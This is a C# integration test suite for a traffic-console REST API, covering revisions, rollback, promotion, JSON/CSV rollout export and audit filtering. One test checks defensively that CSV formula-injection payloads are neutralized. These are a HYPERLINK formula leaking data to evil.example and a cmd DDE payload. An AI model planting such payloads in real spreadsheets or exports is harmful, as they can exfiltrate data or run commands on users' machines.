using System.Net;
using System.Text.Json;

namespace TrafficConsole.Web.Tests.Api;

/// <summary>The history REST API over real HTTP: revisions, rollback, the rollouts overview (JSON and CSV) and the audit list.</summary>
public sealed class HistoryApiTests : IAsyncLifetime
{
    private const string Actor = "ops, \"night\" shift";
    private ConsoleTestHost? _host;

    private ConsoleTestHost Host => _host!;

    public async Task InitializeAsync()
    {
        var options = new ConsoleTestHostOptions();
        options.Settings["Console:DefaultActor"] = Actor;
        options.Settings["History:SettleDelay"] = "00:00:00.200";
        _host = await ConsoleTestHost.StartAsync(options);
    }

    public async Task DisposeAsync()
    {
        if (_host is not null)
        {
            await _host.DisposeAsync();
        }
    }

    private static async Task<string> PutAsync(HttpClient client, string weights)
    {
        (HttpResponseMessage response, JsonElement body) = await HttpJson.PutAsync(client, "api/v1/namespaces/bookinfo/services/reviews/traffic", $$"""{ "weights": {{weights}} }""");
        Assert.True(response.StatusCode == HttpStatusCode.OK, body.ToString());
        return body.GetProperty("revision").GetString()!;
    }

    private static Task<(HttpResponseMessage Response, JsonElement Body)> RollbackAsync(HttpClient client, string json, string service = "reviews", string ns = "bookinfo") =>
        HttpJson.SendAsync(client, HttpMethod.Post, $"api/v1/namespaces/{ns}/services/{service}/rollback", json);

    [Fact]
    public async Task Revisions_are_listed_newest_first_and_a_rollback_restores_one_then_a_stale_revision_gets_409()
    {
        using HttpClient client = Host.CreateClient();
        await PutAsync(client, """{ "v1": 30, "v2": 70, "v3": 0 }""");
        string current = await PutAsync(client, """{ "v1": 50, "v2": 50, "v3": 0 }""");

        (HttpResponseMessage listed, JsonElement list) = await HttpJson.GetAsync(client, "api/v1/namespaces/bookinfo/services/reviews/revisions");

        Assert.Equal(HttpStatusCode.OK, listed.StatusCode);
        Assert.Equal(current, list.GetProperty("revision").GetString());
        JsonElement[] revisions = [.. list.GetProperty("revisions").EnumerateArray()];
        Assert.Equal(2, revisions.Length);
        Assert.Equal([50, 30], revisions.Select(static r => r.GetProperty("weights").GetProperty("v1").GetInt32()));
        Assert.Equal([true, false], revisions.Select(static r => r.GetProperty("current").GetBoolean()));
        Assert.Equal(Actor, revisions[0].GetProperty("actor").GetString());
        Assert.Equal("Console", revisions[0].GetProperty("origin").GetString());
        Assert.Equal(revisions[1].GetProperty("id").GetString(), revisions[0].GetProperty("replaces").GetString());
        Assert.Equal(30, list.GetProperty("cap").GetInt32());

        string older = revisions[1].GetProperty("id").GetString()!;
        (HttpResponseMessage rolledBack, JsonElement done) = await RollbackAsync(client, $$"""{ "toRevision": "{{older}}", "revision": "{{current}}", "reason": "50/50 hurt latency" }""");

        Assert.True(rolledBack.StatusCode == HttpStatusCode.OK, done.ToString());
        Assert.Contains(older, done.GetProperty("description").GetString(), StringComparison.Ordinal);
        Assert.Equal(new Dictionary<string, int> { ["v1"] = 30, ["v2"] = 70, ["v3"] = 0 }, HttpJson.Weights(done.GetProperty("traffic")));
        JsonElement vs = (await IstioObjects.VirtualServiceAsync(Host.Kubernetes, "bookinfo", "reviews"))!.Value;
        Assert.Equal(30, IstioObjects.CatchAllWeights(vs)["v1"]);

        (HttpResponseMessage stale, JsonElement conflict) = await RollbackAsync(client, $$"""{ "toRevision": "{{older}}", "revision": "{{current}}" }""");
        Assert.Equal(HttpStatusCode.Conflict, stale.StatusCode);
        Assert.Equal(30, conflict.GetProperty("current").GetProperty("weights").GetProperty("v1").GetInt32());

        (_, JsonElement after) = await HttpJson.GetAsync(client, "api/v1/namespaces/bookinfo/services/reviews/revisions");
        JsonElement newest = after.GetProperty("revisions")[0];
        Assert.Equal(("Rollback", "50/50 hurt latency"), (newest.GetProperty("action").GetString(), newest.GetProperty("reason").GetString()));
    }

    [Theory]
    [InlineData("""{ "toRevision": "abc", "toStable": true }""", "toStable")]
    [InlineData("""{ }""", "toRevision")]
    [InlineData("""{ "toStable": false }""", "toRevision")]
    public async Task A_rollback_needs_exactly_one_target_and_says_which_field(string json, string field)
    {
        using HttpClient client = Host.CreateClient();

        (HttpResponseMessage response, JsonElement body) = await RollbackAsync(client, json, "ratings");

        Assert.Equal(HttpStatusCode.UnprocessableEntity, response.StatusCode);
        Assert.True(body.GetProperty("errors").TryGetProperty(field, out _), body.ToString());
        Assert.Null(await IstioObjects.VirtualServiceAsync(Host.Kubernetes, "bookinfo", "ratings"));
    }

    [Theory]
    [InlineData("""{ "toStable": "yes" }""", "toStable")]
    [InlineData("""{ "toRevision": 7 }""", "toRevision")]
    [InlineData("""{ "toStable": true, "reason": ["a"] }""", "reason")]
    [InlineData("""not json""", "body")]
    [InlineData("""[ true ]""", "body")]
    public async Task A_rollback_body_of_the_wrong_shape_is_400_naming_the_field(string json, string field)
    {
        using HttpClient client = Host.CreateClient();

        (HttpResponseMessage response, JsonElement body) = await RollbackAsync(client, json, "ratings");

        Assert.True(response.StatusCode == HttpStatusCode.BadRequest, $"{(int)response.StatusCode} {body}");
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        Assert.True(body.GetProperty("errors").TryGetProperty(field, out _), body.ToString());
        Assert.Null(await IstioObjects.VirtualServiceAsync(Host.Kubernetes, "bookinfo", "ratings"));
    }

    [Fact]
    public async Task Unknown_revisions_services_and_long_reasons_are_refused()
    {
        using HttpClient client = Host.CreateClient();

        (HttpResponseMessage unknown, _) = await RollbackAsync(client, """{ "toRevision": "0000000000" }""", "ratings");
        (HttpResponseMessage noService, _) = await RollbackAsync(client, """{ "toStable": true }""", "nope");
        (HttpResponseMessage longReason, JsonElement body) = await RollbackAsync(client, $$"""{ "toStable": true, "reason": "{{new string('x', 501)}}" }""", "ratings");
        (HttpResponseMessage noRevisions, _) = await HttpJson.GetAsync(client, "api/v1/namespaces/bookinfo/services/nope/revisions");

        Assert.Equal(HttpStatusCode.NotFound, unknown.StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, noService.StatusCode);
        Assert.Equal(HttpStatusCode.UnprocessableEntity, longReason.StatusCode);
        Assert.True(body.GetProperty("errors").TryGetProperty("reason", out _), body.ToString());
        Assert.Equal(HttpStatusCode.NotFound, noRevisions.StatusCode);
        Assert.Null(await IstioObjects.VirtualServiceAsync(Host.Kubernetes, "bookinfo", "ratings"));
    }

    [Fact]
    public async Task To_stable_sends_all_traffic_to_the_version_the_revisions_list_names()
    {
        using HttpClient client = Host.CreateClient();
        (_, JsonElement list) = await HttpJson.GetAsync(client, "api/v1/namespaces/shop/services/catalog/revisions");
        string stable = list.GetProperty("stable").GetProperty("version").GetString()!;

        (HttpResponseMessage response, JsonElement body) = await RollbackAsync(client, $$"""{ "toStable": true, "revision": "{{list.GetProperty("revision").GetString()}}" }""", "catalog", "shop");

        Assert.True(response.StatusCode == HttpStatusCode.OK, body.ToString());
        Assert.Equal(100, HttpJson.Weights(body.GetProperty("traffic"))[stable]);
        Assert.Contains(stable, body.GetProperty("description").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Promote_sends_all_traffic_to_the_version_and_marks_it_stable_in_one_revision_and_the_stable_says_who()
    {
        using HttpClient client = Host.CreateClient();
        await PutAsync(client, """{ "v1": 100, "v2": 0, "v3": 0 }""");
        string current = await PutAsync(client, """{ "v1": 30, "v2": 70, "v3": 0 }""");

        (HttpResponseMessage response, JsonElement body) = await HttpJson.SendAsync(client, HttpMethod.Post, "api/v1/namespaces/bookinfo/services/reviews/promote",
            $$"""{ "version": "v2", "revision": "{{current}}", "reason": "v2 is good" }""");

        Assert.True(response.StatusCode == HttpStatusCode.OK, body.ToString());
        Assert.Equal(new Dictionary<string, int> { ["v1"] = 0, ["v2"] = 100, ["v3"] = 0 }, HttpJson.Weights(body.GetProperty("traffic")));
        JsonElement vs = (await IstioObjects.VirtualServiceAsync(Host.Kubernetes, "bookinfo", "reviews"))!.Value;
        Assert.Equal(100, IstioObjects.CatchAllWeights(vs)["v2"]);
        Assert.Equal("v2", vs.GetProperty("metadata").GetProperty("annotations").GetProperty("trafficconsole.io/stable-version").GetString());
        (_, JsonElement list) = await HttpJson.GetAsync(client, "api/v1/namespaces/bookinfo/services/reviews/revisions");
        Assert.Equal(3, list.GetProperty("revisions").GetArrayLength());
        JsonElement newest = list.GetProperty("revisions")[0];
        Assert.Equal(("Promote", "v2 is good", Actor), (newest.GetProperty("action").GetString(), newest.GetProperty("reason").GetString(), newest.GetProperty("actor").GetString()));
        JsonElement stable = list.GetProperty("stable");
        Assert.Equal(("v2", "Promoted", Actor), (stable.GetProperty("version").GetString(), stable.GetProperty("reason").GetString(), stable.GetProperty("by").GetString()));
        Assert.StartsWith($"promoted by {Actor} on ", stable.GetProperty("explanation").GetString(), StringComparison.Ordinal);

        // A stale revision is a conflict and writes nothing.
        (HttpResponseMessage stale, _) = await HttpJson.SendAsync(client, HttpMethod.Post, "api/v1/namespaces/bookinfo/services/reviews/promote",
            $$"""{ "version": "v1", "revision": "{{current}}" }""");
        Assert.Equal(HttpStatusCode.Conflict, stale.StatusCode);
    }

    [Theory]
    [InlineData("""{ }""", "version")]
    [InlineData("""{ "version": " " }""", "version")]
    [InlineData("""{ "version": "v9" }""", "version")]
    [InlineData("""{ "version": "v2", "reason": "REASON" }""", "reason")]
    public async Task A_promotion_names_the_field_it_refuses_and_writes_nothing(string json, string field)
    {
        using HttpClient client = Host.CreateClient();

        (HttpResponseMessage response, JsonElement body) = await HttpJson.SendAsync(client, HttpMethod.Post, "api/v1/namespaces/bookinfo/services/ratings/promote",
            json.Replace("REASON", new string('x', 501), StringComparison.Ordinal));

        Assert.Equal(HttpStatusCode.UnprocessableEntity, response.StatusCode);
        Assert.True(body.GetProperty("errors").TryGetProperty(field, out _), body.ToString());
        Assert.Null(await IstioObjects.VirtualServiceAsync(Host.Kubernetes, "bookinfo", "ratings"));
    }

    [Fact]
    public async Task The_rollouts_overview_is_JSON_or_CSV_with_a_header_and_quoted_fields()
    {
        using HttpClient client = Host.CreateClient();
        await PutAsync(client, """{ "v1": 80, "v2": 20, "v3": 0 }""");

        (HttpResponseMessage json, JsonElement body) = await HttpJson.GetAsync(client, "api/v1/rollouts");
        (HttpResponseMessage one, JsonElement bookinfo) = await HttpJson.GetAsync(client, "api/v1/rollouts?namespace=bookinfo");
        (HttpResponseMessage missing, _) = await HttpJson.GetAsync(client, "api/v1/rollouts?namespace=nope");
        using HttpResponseMessage csv = await client.GetAsync(new Uri("api/v1/rollouts?format=csv", UriKind.Relative));

        Assert.Equal(HttpStatusCode.OK, json.StatusCode);
        JsonElement[] items = [.. body.GetProperty("items").EnumerateArray()];
        JsonElement reviews = items.Single(static i => i.GetProperty("service").GetString() == "reviews");
        Assert.Equal(20, reviews.GetProperty("weights").GetProperty("v2").GetInt32());
        Assert.Equal(Actor, reviews.GetProperty("lastChangedBy").GetString());
        Assert.Contains(items, static i => i.GetProperty("namespace").GetString() == "shop" && i.GetProperty("service").GetString() == "catalog");
        Assert.Equal(HttpStatusCode.OK, one.StatusCode);
        Assert.All(bookinfo.GetProperty("items").EnumerateArray(), static i => Assert.Equal("bookinfo", i.GetProperty("namespace").GetString()));
        Assert.Equal(HttpStatusCode.NotFound, missing.StatusCode);

        Assert.Equal(HttpStatusCode.OK, csv.StatusCode);
        Assert.Equal("text/csv", csv.Content.Headers.ContentType!.MediaType);
        Assert.Equal("rollouts.csv", csv.Content.Headers.ContentDisposition!.FileName?.Trim('"'));
        string[] lines = (await csv.Content.ReadAsStringAsync()).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.StartsWith("namespace,service,kind,weights,", lines[0], StringComparison.Ordinal);
        Assert.Equal(items.Length + 1, lines.Length);
        string row = lines.Single(static l => l.StartsWith("bookinfo,reviews,", StringComparison.Ordinal));
        Assert.Contains("v1=80;v2=20;v3=0", row, StringComparison.Ordinal);
        Assert.Contains("\"ops, \"\"night\"\" shift\"", row, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?leak\",\"open\")", "\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"open\"\")\"")]
    [InlineData("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)", "'@SUM(1+1)")]
    [InlineData("+1", "'+1")]
    public async Task A_csv_cell_that_a_spreadsheet_would_run_as_a_formula_is_neutralized(string actor, string cell)
    {
        // A name someone chose (here the actor) must open as text in a spreadsheet, never as a formula (OWASP CSV injection).
        var options = new ConsoleTestHostOptions();
        options.Settings["Console:DefaultActor"] = actor;
        await using ConsoleTestHost host = await ConsoleTestHost.StartAsync(options);
        using HttpClient client = host.CreateClient();
        await PutAsync(client, """{ "v1": 80, "v2": 20, "v3": 0 }""");

        using HttpResponseMessage csv = await client.GetAsync(new Uri("api/v1/rollouts?format=csv", UriKind.Relative));
        string row = (await csv.Content.ReadAsStringAsync()).Split("\r\n").Single(static l => l.StartsWith("bookinfo,reviews,", StringComparison.Ordinal));

        Assert.Contains("," + cell + ",", row, StringComparison.Ordinal);
        Assert.DoesNotContain("," + actor, row, StringComparison.Ordinal);
        Assert.DoesNotContain(",\"" + actor[0], row, StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_audit_list_filters_and_a_bad_time_is_a_400_naming_the_parameter()
    {
        using HttpClient client = Host.CreateClient();
        await PutAsync(client, """{ "v1": 10, "v2": 90, "v3": 0 }""");

        (HttpResponseMessage bad, JsonElement problem) = await HttpJson.GetAsync(client, "api/v1/namespaces/bookinfo/audit?from=yesterday");
        (HttpResponseMessage ok, JsonElement audit) = await HttpJson.GetAsync(client, "api/v1/namespaces/bookinfo/audit?actor=NIGHT&service=rev");
        (_, JsonElement future) = await HttpJson.GetAsync(client, $"api/v1/namespaces/bookinfo/audit?from={Uri.EscapeDataString(DateTimeOffset.UtcNow.AddHours(1).ToString("O"))}");

        Assert.Equal(HttpStatusCode.BadRequest, bad.StatusCode);
        Assert.True(problem.GetProperty("errors").TryGetProperty("from", out _), problem.ToString());
        Assert.Equal(HttpStatusCode.OK, ok.StatusCode);
        JsonElement[] entries = [.. audit.GetProperty("items").EnumerateArray()];
        Assert.NotEmpty(entries);
        Assert.All(entries, static e => Assert.Equal(("reviews", Actor), (e.GetProperty("service").GetString(), e.GetProperty("actor").GetString())));
        DateTimeOffset[] times = [.. entries.Select(static e => e.GetProperty("at").GetDateTimeOffset())];
        Assert.Equal(times.OrderDescending(), times);
        Assert.Empty(future.GetProperty("items").EnumerateArray());
    }
}
